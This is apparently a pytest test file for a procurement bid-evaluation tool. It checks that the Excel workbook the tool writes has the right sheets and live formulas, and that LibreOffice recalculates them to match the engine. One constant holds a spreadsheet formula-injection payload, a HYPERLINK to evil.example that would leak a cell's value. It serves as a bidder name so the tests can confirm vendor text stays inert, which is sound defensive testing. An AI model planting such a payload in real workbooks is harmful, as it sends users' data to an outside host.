"""The evaluation workbook: structure, live formulas, text safety and — with LibreOffice — numbers.

The key test recalculates workbooks in LibreOffice (one ``soffice`` call converts them all) and
compares every Q, P, S, T (rounded to 2 decimals), every rank, the in-competition flags and the
winner with the engine: for the bundled example, for a small evaluation per award formula, and
after an auditor's change (a score, a group weight, WQ) made in the written workbook.
"""

from __future__ import annotations

import io
import shutil
import subprocess
from dataclasses import replace
from datetime import datetime
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from procure_app import paths
from procure_app.core.base.atomic import WriteError
from procure_app.core.evaluation.engine import EvaluationResult, evaluate, rounded
from procure_app.core.evaluation.evaluation_file import (
    Bid,
    Consensus,
    EvaluationFile,
    Evaluator,
    GateResult,
    PriceSheet,
    Score,
)
from procure_app.core.evaluation.run import run_evaluation
from procure_app.core.evaluation.sensitivity import SensitivityResult, analyse
from procure_app.core.evaluation.workbook import (
    SHEET_GATES,
    SHEET_MODERATION,
    SHEET_NOTES,
    SHEET_PRICES,
    SHEET_SCORES,
    SHEET_SENSITIVITY,
    SHEET_SUMMARY,
    evaluator_sheet_name,
    render_evaluation_workbook,
    write_evaluation_workbook,
)
from procure_app.core.rubric.model import FORMULAS, Award, Criterion, Gate, Group, PriceBasis, Rubric

from ..conftest import REPO
from ..office import soffice_convert
from .builders import SCALE, evaluation

D = Decimal
EXAMPLE = REPO / "resources" / "examples" / "urban-data-platform-lot1.eval.yaml"
SUMMARY_TOP = 11  # the first bid row of the Summary table
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
# Summary columns (1-based)
C_BID, C_BIDDER, C_IN, C_Q, C_P, C_S, C_T, C_RANK = 1, 2, 4, 5, 6, 7, 8, 9

Case = tuple[Rubric, EvaluationFile, EvaluationResult, SensitivityResult]


# -- a small evaluation for each award formula -------------------------------------------------------


def _rubric(formula: str) -> Rubric:
    """Two groups with minimums (g1: c1 with a minimum, c2; g2: c3), one gate, per-formula settings."""
    weights = {"utility-index": (60, 40), "linear": (60, 40), "quality-only": (100, 0), "price-only": (0, 100)}
    quality, price = weights.get(formula, (70, 30))
    parameters = {"log": (("zero_ratio", D(2)),), "value-for-money": (("scale", D(1000)),)}.get(formula, ())
    valued = formula == "award-on-value"
    criteria = [
        Criterion(c, c.upper(), D(w), m, value_per_level=D(v) if valued else None)
        for c, w, m, v in (("c1", 50, D(1), 50), ("c2", 50, None, 20), ("c3", 100, None, 30))
    ]
    bases = {"relative-lowest": PriceBasis("lifecycle", D(3)), "linear": PriceBasis("lifecycle", None)}
    return Rubric(
        id="small",
        title="Small rubric",
        version="2.1",
        description="",
        scale=SCALE,
        gates=(Gate("gate-a", "Gate A"), Gate("gate-b", "Gate B")),
        groups=(
            Group("g1", "Group 1", D(60), tuple(criteria[:2])),
            Group("g2", "Group 2", D(40), (criteria[2],), minimum=D(20)),
        ),
        price=bases.get(formula, PriceBasis("capex", None)),
        award=Award(formula, D(quality), D(price), parameters),
        aggregation="median" if formula == "log" else "mean",
        tie_break=("price", "quality", "submission")
        if formula == "quality-only"
        else ("quality", "price", "submission"),
    )


def _bid(ident: str, bidder: str, price: tuple[int, int, int, int] | None, submitted: str | None, **gates: str) -> Bid:
    sheet = None if price is None else PriceSheet(D(price[0]), D(price[1]), D(price[2]), price[3])
    when = datetime.fromisoformat(submitted) if submitted else None
    results = tuple(GateResult(gate.replace("_", "-"), result, f"checked {gate}") for gate, result in gates.items())
    return Bid(ident, bidder, sme=ident == "b2", submitted=when, price=sheet, gates=results)


def _scores(bid: str, table: dict[str, tuple[int | None, ...]]) -> list[Score]:
    """``table``: evaluator -> scores of c1, c2, c3 (None: not scored)."""
    return [
        Score(evaluator, bid, criterion, D(value), f"{evaluator} on {criterion}: =SUM(A1) @risk")
        for evaluator, values in table.items()
        for criterion, value in zip(("c1", "c2", "c3"), values, strict=True)
        if value is not None
    ]


def _synthetic(formula: str, equal_prices: bool = False) -> tuple[Rubric, EvaluationFile]:
    """Eight bids: a tie broken by submission (b1, b4), a conflict and a consensus, a failed gate,
    a score below a minimum, an abnormally low price, a bid without a submission time (b8)."""
    same = (1000, 0, 0, 1)
    prices = {
        "b1": (1000, 100, 20, 3),
        "b2": (800, 150, 0, 3),
        "b3": (1200, 50, 50, 3),
        "b4": (1000, 100, 20, 3),
        "b5": (900, 0, 0, 1),
        "b6": (700, 0, 0, 1),
        "b7": (300, 10, 10, 3),
        "b8": (2000, 0, 0, 2),
    }
    if equal_prices:
        prices = dict.fromkeys(prices, same)
    no_price = formula == "quality-only"
    bids = [
        _bid("b1", "Alpha Ltd", prices["b1"], "2027-03-01T10:00", gate_a="pass", gate_b="pass"),
        _bid("b2", "Beta & Co", prices["b2"], "2027-03-01T09:00", gate_a="pass", gate_b="pass"),
        _bid("b3", "Gamma plc", prices["b3"], "2027-03-01T11:00", gate_a="pass"),  # gate-b not assessed
        _bid("b4", INJECTION, prices["b4"], "2027-03-02T10:00", gate_a="pass", gate_b="pass"),
        _bid("b5", "Epsilon", prices["b5"], "2027-03-01T12:00", gate_a="fail", gate_b="pass"),
        _bid("b6", "Zeta", prices["b6"], "2027-03-01T13:00", gate_a="pass", gate_b="pass"),
        _bid("b7", "Eta", prices["b7"], "2027-03-01T14:00", gate_a="pass", gate_b="pass"),
        _bid("b8", "Theta", None if no_price else prices["b8"], None, gate_a="pass", gate_b="pass"),
    ]
    scores = [
        *_scores("b1", {"ann": (4, 3, 5), "bob": (3, 3, 4), "cat": (5, 2, 4)}),
        *_scores("b2", {"ann": (1, 4, 3), "bob": (4, 4, 3), "cat": (5, 3, 2)}),
        *_scores("b3", {"ann": (5, 4, None), "bob": (4, 4, None)}),  # cat is conflicted; c3 unscored
        *_scores("b4", {"ann": (4, 3, 5), "bob": (3, 3, 4), "cat": (5, 2, 4)}),
        *_scores("b6", {"ann": (0, 5, 5), "bob": (0, 5, 5), "cat": (1, 5, 5)}),  # c1 0.33 < minimum 1
        *_scores("b7", {"ann": (2, 2, 2), "bob": (1, 2, 3), "cat": (2, 1, 1)}),
        *_scores("b8", {"ann": (4, 3, 5), "bob": (3, 3, 4), "cat": (5, 2, 4)}),
    ]
    consensus = [Consensus("b2", "c1", D(3), "Agreed after discussion: =1+1")]
    evaluators = (Evaluator("ann", "Ann"), Evaluator("bob", "Bob"), Evaluator("cat", "Cat", conflicts=("b3",)))
    return _rubric(formula), evaluation(bids, scores, consensus, evaluators=evaluators, draws=50)


def _case(rubric: Rubric, file: EvaluationFile) -> Case:
    result = evaluate(rubric, file)
    return rubric, file, result, analyse(rubric, file, result)


@pytest.fixture(scope="module")
def example() -> Case:
    run = run_evaluation(EXAMPLE, paths.guidelines_file(), paths.library_dir())
    assert run.ok, [str(d) for d in run.diagnostics if d.is_error]
    assert run.rubric and run.evaluation and run.result and run.sensitivity
    return run.rubric, run.evaluation, run.result, run.sensitivity


def _render(case: Case) -> bytes:
    return render_evaluation_workbook(*case)


def _open(data: bytes, data_only: bool = False) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data), data_only=data_only)


# -- structure ---------------------------------------------------------------------------------------


def test_sheets_are_named_and_ordered(example: Case) -> None:
    workbook = _open(_render(example))
    evaluators = [f"Eval - {e.id}" for e in example[1].evaluators]
    assert workbook.sheetnames == [
        SHEET_SUMMARY,
        SHEET_SCORES,
        *evaluators,
        SHEET_MODERATION,
        SHEET_PRICES,
        SHEET_GATES,
        SHEET_SENSITIVITY,
        SHEET_NOTES,
    ]


def test_evaluator_sheet_names_fit_and_are_unique() -> None:
    long = "a" * 40
    first = evaluator_sheet_name(long)
    assert len(first) == 31 and first.startswith("Eval - ")
    second = evaluator_sheet_name(long + "b", [first])
    assert len(second) <= 31 and second != first


def test_the_numbers_are_formulas(example: Case) -> None:
    workbook = _open(_render(example))
    summary = workbook[SHEET_SUMMARY]
    for index in range(len(example[2].bids)):
        row = SUMMARY_TOP + index
        for column in (C_IN, C_Q, C_P, C_S, C_T, C_RANK):
            assert str(summary.cell(row, column).value).startswith("="), (row, column)
    assert str(summary["B8"].value).startswith("=IF(COUNTIF(")  # the winner
    prices = workbook[SHEET_PRICES]
    formulas = [str(c.value) for row in prices.iter_rows() for c in row if isinstance(c.value, str)]
    assert any("_xlfn.MINIFS(" in f for f in formulas) and any("_xlfn.MAXIFS(" in f for f in formulas)
    assert any("AVERAGEIFS(" in f for f in formulas) and any("(1-(1+" in f for f in formulas)
    assert any(f.startswith("=IF(AND(") and "COUNTIFS(" in f for f in formulas)  # the ranks
    scores = workbook[SHEET_SCORES]
    cells = [str(c.value) for row in scores.iter_rows(min_row=7) for c in row if isinstance(c.value, str)]
    assert any("SUMPRODUCT(" in f for f in cells) and any("AVERAGE('Eval - ana'!" in f for f in cells)
    moderation = workbook[SHEET_MODERATION]
    assert any(str(c.value).startswith("=IF(AND(COUNT(") for row in moderation.iter_rows(min_row=6) for c in row)


def test_conflicts_leave_an_empty_grey_cell_that_no_formula_uses(example: Case) -> None:
    workbook = _open(_render(example))
    sheet = workbook["Eval - ben"]
    header = {sheet.cell(5, column).value: column for column in range(3, sheet.max_column + 1)}
    column = header["bid-c"]
    rows = [row for row in range(7, sheet.max_row + 1) if sheet.cell(row, 1).value == "open-interfaces"]
    cell = sheet.cell(rows[0], column)
    assert cell.value is None and cell.comment is not None and "conflict" in cell.comment.text
    assert cell.fill.fgColor.rgb.endswith("D9D9D9")
    scored = sheet.cell(rows[0], header["bid-a"])
    assert isinstance(scored.value, int) and scored.number_format == "0" and scored.fill.fgColor.rgb.endswith("FFF2CC")
    justification = sheet.cell(rows[0], header["bid-a"] + 1)
    assert justification.data_type == "s" and justification.alignment.wrap_text
    address = f"'Eval - ben'!{cell.coordinate}"
    scores = workbook[SHEET_SCORES]
    assert not any(address in str(c.value) for row in scores.iter_rows() for c in row)


def test_vendor_text_is_never_a_formula() -> None:
    workbook = _open(_render(_case(*_synthetic("relative-lowest"))))
    summary = workbook[SHEET_SUMMARY]
    row = next(r for r in range(SUMMARY_TOP, SUMMARY_TOP + 8) if summary.cell(r, 1).value == "b4")
    cell = summary.cell(row, C_BIDDER)
    assert cell.value == INJECTION and cell.data_type == "s"
    texts = [
        c
        for sheet in workbook.worksheets
        for line in sheet.iter_rows()
        for c in line
        if isinstance(c.value, str) and ("=SUM(A1)" in c.value or "=1+1" in c.value or c.value == INJECTION)
    ]
    assert len(texts) > 10 and all(c.data_type == "s" for c in texts)


def test_sheets_have_frozen_panes_and_print_setup(example: Case) -> None:
    workbook = _open(_render(example))
    for sheet in workbook.worksheets:
        assert sheet.page_setup.orientation == "landscape"
        if sheet.title.startswith("Eval - "):  # five bids: printed three bids a page wide, criteria repeated
            assert not sheet.sheet_properties.pageSetUpPr.fitToPage and 50 <= sheet.page_setup.scale <= 100
            assert sheet.print_title_cols == "$A:$B" and [b.id for b in sheet.col_breaks.brk] == [8]
        else:
            assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth == 1
        assert "RIV-DIG-2027-014" in sheet.oddHeader.left.text
        assert sheet.oddFooter.right.text == "Page &P of &N"
        if sheet.title != SHEET_NOTES:
            assert sheet.freeze_panes, sheet.title
        if sheet.title not in (SHEET_NOTES, SHEET_SENSITIVITY):
            assert sheet.print_title_rows, sheet.title


def test_summary_has_highlights_chart_and_validated_gates(example: Case) -> None:
    workbook = _open(_render(example))
    summary = workbook[SHEET_SUMMARY]
    rules = [rule.formula[0] for cf in summary.conditional_formatting for rule in cf.rules]
    assert rules == ["$D11=0", '$J11="yes"', "$I11=1"]
    assert len(summary._charts) == 1
    gates = workbook[SHEET_GATES]
    assert [v.formula1 for v in gates.data_validations.dataValidation] == ['"pass,fail,not assessed"']
    assert gates["E5"].value == "pass" and gates["E5"].data_type == "s"


def test_the_bytes_are_deterministic(example: Case) -> None:
    assert _render(example) == _render(example)


def test_write_is_atomic(example: Case, tmp_path: Path) -> None:
    target = tmp_path / "evaluation.xlsx"
    write_evaluation_workbook(*example, target)
    assert target.read_bytes() == _render(example)
    assert [p.name for p in tmp_path.iterdir()] == ["evaluation.xlsx"]
    with pytest.raises(WriteError, match="does not exist"):
        write_evaluation_workbook(*example, tmp_path / "missing" / "evaluation.xlsx")


def test_edge_cases_render() -> None:
    rubric, file = _synthetic("relative-lowest")
    for changed in (replace(file, bids=(), scores=(), consensus=()), replace(file, scores=(), consensus=())):
        workbook = _open(_render(_case(rubric, changed)))
        assert workbook[SHEET_SUMMARY]["B8"].value.startswith("=IF(")


# -- LibreOffice: the formulas compute what the engine computes ------------------------------------


def _soffice(tmp: Path, sources: list[Path], out: Path) -> subprocess.CompletedProcess[str]:
    return soffice_convert(sources, "xlsx", out, tmp)


def _recalculate(tmp: Path, sources: list[Path]) -> dict[str, Any]:
    """Every source opened, recalculated and saved by LibreOffice, read back with values only."""
    out = tmp / "out"
    result = _soffice(tmp, sources, out)
    missing = [s.name for s in sources if not (out / s.name).exists()]
    if missing:
        probe = tmp / "probe" / "plain.xlsx"
        probe.parent.mkdir()
        openpyxl.Workbook().save(probe)
        _soffice(tmp, [probe], tmp / "probe-out")
        if not (tmp / "probe-out" / probe.name).exists():
            pytest.skip("LibreOffice cannot open spreadsheets here (is LibreOffice Calc installed?)")
        pytest.fail(f"LibreOffice could not convert {missing}: {result.stderr}")
    return {s.stem: openpyxl.load_workbook(out / s.name, data_only=True) for s in sources}


def _cell_of(sheet: Any, row_label: str, column_label: str, header_row: int, first_row: int) -> str:
    row = next(r for r in range(first_row, sheet.max_row + 1) if sheet.cell(r, 1).value == row_label)
    column = next(c for c in range(1, sheet.max_column + 1) if sheet.cell(header_row, c).value == column_label)
    return str(sheet.cell(row, column).coordinate)


def _changed_score(case: Case) -> tuple[Case, str, str, int]:
    """ana's score of bid-d on security-by-design, raised to 5 (no consensus is set there)."""
    rubric, file, _, _ = case
    target = ("ana", "bid-d", "security-by-design")
    assert not any((c.bid, c.criterion) == target[1:] for c in file.consensus)
    scores = tuple(replace(s, score=D(5)) if (s.evaluator, s.bid, s.criterion) == target else s for s in file.scores)
    return _case(rubric, replace(file, scores=scores)), "Eval - ana", "security-by-design", 5


def _changed_weight(case: Case) -> Case:
    """The exit group weighs 35 instead of 15 (the siblings then sum to 120: used as fractions)."""
    rubric, file, _, _ = case
    groups = tuple(replace(g, weight=D(35)) if g.id == "exit" else g for g in rubric.groups)
    return _case(replace(rubric, groups=groups), file)


def _changed_split(case: Case) -> Case:
    rubric, file, _, _ = case
    return _case(replace(rubric, award=replace(rubric.award, quality_weight=D(45), price_weight=D(55))), file)


CASES = [*FORMULAS, "linear-equal-prices", "no-scores", "no-gates-no-tie-break"]


@pytest.fixture(scope="module")
def recalculated(example: Case, tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Case, Any]]:
    """name -> (the engine's case, the workbook recalculated by LibreOffice); one soffice call."""
    if shutil.which("soffice") is None:
        pytest.skip("LibreOffice is not installed")
    tmp = tmp_path_factory.mktemp("evaluation-xlsx")
    (tmp / "in").mkdir()
    cases: dict[str, Case] = {"example": example}
    for name in FORMULAS:
        cases[name] = _case(*_synthetic(name))
    cases["linear-equal-prices"] = _case(*_synthetic("linear", equal_prices=True))
    rubric, file = _synthetic("relative-lowest")
    cases["no-scores"] = _case(rubric, replace(file, scores=(), consensus=()))
    plain = replace(rubric, gates=(), abnormally_low_percent=None, tie_break=())
    cases["no-gates-no-tie-break"] = _case(plain, replace(file, bids=tuple(replace(b, gates=()) for b in file.bids)))
    sources = []
    for name, case in cases.items():
        sources.append(tmp / "in" / f"{name}.xlsx")
        write_evaluation_workbook(*case, sources[-1])
    sources += _edited_workbooks(example, tmp / "in", cases)
    books = _recalculate(tmp, sources)
    return {name: (case, books[name]) for name, case in cases.items()}


def _edited_workbooks(example: Case, folder: Path, cases: dict[str, Case]) -> list[Path]:
    """The example with one change made in the written workbook (as an auditor would)."""
    edited: list[Path] = []
    changed, sheet_name, criterion, value = _changed_score(example)
    workbook = _open(_render(example))
    workbook[sheet_name][_cell_of(workbook[sheet_name], criterion, "bid-d", 5, 7)] = value
    edits = [("edited-score", workbook, changed)]
    workbook = _open(_render(example))
    workbook[SHEET_SCORES][_cell_of(workbook[SHEET_SCORES], "exit", "Weight %", 5, 7)] = 35
    edits.append(("edited-weight", workbook, _changed_weight(example)))
    workbook = _open(_render(example))
    workbook[SHEET_SUMMARY]["B5"], workbook[SHEET_SUMMARY]["B6"] = 45, 55
    edits.append(("edited-split", workbook, _changed_split(example)))
    for name, book, case in edits:
        book.save(folder / f"{name}.xlsx")
        edited.append(folder / f"{name}.xlsx")
        cases[name] = case
    return edited


def _two(value: Any) -> Decimal | None:
    """A recalculated number as the workbook shows it: rounded to 2 decimals, half away from zero."""
    if value in (None, ""):
        return None
    assert isinstance(value, int | float), value
    return Decimal(str(value)).quantize(Decimal("0.01"), rounding=ROUND_HALF_UP)


def _engine(value: Decimal | None) -> Decimal | None:
    return None if value is None else rounded(value, 2)


def _check(case: Case, workbook: Any) -> None:
    result = case[2]
    summary = workbook[SHEET_SUMMARY]
    for index, bid in enumerate(result.bids):
        row = SUMMARY_TOP + index
        values = [c.value for c in summary[row]]

        def cell(column: int, values: list[Any] = values) -> Any:
            return values[column - 1]

        assert cell(C_BID) == bid.bid
        assert cell(C_IN) == (1 if bid.in_competition else 0), bid.bid
        assert _two(cell(C_Q)) == _engine(bid.quality), (bid.bid, "Q")
        assert _two(cell(C_P)) == _engine(bid.price), (bid.bid, "P")
        if result.formula in ("relative-lowest", "linear", "log", "price-only"):
            assert _two(cell(C_S)) == _engine(bid.price_score), (bid.bid, "S")
        assert _two(cell(C_T)) == _engine(bid.total), (bid.bid, "T")
        assert (cell(C_RANK) or None) == bid.rank, (bid.bid, "rank")
        assert (cell(10) == "yes") == bid.abnormally_low, (bid.bid, "abnormally low")
        assert (cell(11) or 0) == sum(c.needs_moderation for c in bid.criteria), (bid.bid, "to moderate")
    _check_scores(result, workbook[SHEET_SCORES])
    winner = result.bid(result.winner) if result.winner else None
    expected = f"{winner.bidder} ({winner.bid})" if winner else None
    shown = summary["B8"].value
    assert shown == expected if expected else shown.startswith("No winner")


def _check_scores(result: EvaluationResult, sheet: Any) -> None:
    """Every criterion score (consensus or mean/median) and group score, as the engine has them."""
    columns = {sheet.cell(5, c).value: c for c in range(1, sheet.max_column + 1)}
    rows = {sheet.cell(r, 1).value: r for r in range(7, sheet.max_row + 1)}
    for bid in result.bids:
        for criterion in bid.criteria:
            shown = sheet.cell(rows[criterion.criterion], columns[bid.bid]).value
            assert _two(shown) == _engine(criterion.score), (bid.bid, criterion.criterion)
        for group in bid.groups:
            shown = sheet.cell(rows[group.group], columns[bid.bid]).value
            assert _two(100 * shown) == _engine(100 * group.score), (bid.bid, group.group)


@pytest.mark.slow
def test_libreoffice_computes_the_example_as_the_engine(recalculated: dict[str, tuple[Case, Any]]) -> None:
    case, workbook = recalculated["example"]
    _check(case, workbook)
    assert case[2].winner == "bid-a"


@pytest.mark.slow
@pytest.mark.parametrize("name", CASES)
def test_libreoffice_computes_each_formula_as_the_engine(name: str, recalculated: dict[str, tuple[Case, Any]]) -> None:
    case, workbook = recalculated[name]
    _check(case, workbook)


@pytest.mark.slow
def test_the_synthetic_cases_cover_the_hard_parts(recalculated: dict[str, tuple[Case, Any]]) -> None:
    """Guard the test data: ties broken by submission, exclusions, flags and an unbroken tie occur."""
    result = recalculated["relative-lowest"][0][2]
    assert {t.rule for t in result.tie_breaks} == {"submission"}
    assert {e.kind for b in result.bids for e in b.exclusions} == {"gate", "criterion-minimum"}
    assert any(b.abnormally_low for b in result.bids) and result.provisional
    assert recalculated["quality-only"][0][2].winner is None  # b1, b4, b8 tie: b8 has no price or time
    assert recalculated["linear-equal-prices"][0][2].note("all-prices-equal") is not None
    assert recalculated["no-scores"][0][2].ranking == ()
    plain = recalculated["no-gates-no-tie-break"][0][2]
    assert plain.winner is None and not any(b.abnormally_low for b in plain.bids)


@pytest.mark.slow
@pytest.mark.parametrize("name", ["edited-score", "edited-weight", "edited-split"])
def test_an_auditors_change_moves_the_totals_as_the_engine(
    name: str, recalculated: dict[str, tuple[Case, Any]]
) -> None:
    case, workbook = recalculated[name]
    original = recalculated["example"][0][2]
    assert [b.total for b in case[2].bids] != [b.total for b in original.bids]
    _check(case, workbook)


@pytest.mark.slow
def test_vendor_text_stays_text_after_recalculation(recalculated: dict[str, tuple[Case, Any]]) -> None:
    _, workbook = recalculated["relative-lowest"]
    summary = workbook[SHEET_SUMMARY]
    assert INJECTION in [summary.cell(row, C_BIDDER).value for row in range(SUMMARY_TOP, SUMMARY_TOP + 8)]
    assert workbook[SHEET_MODERATION].cell(6, 1).value == "b1"
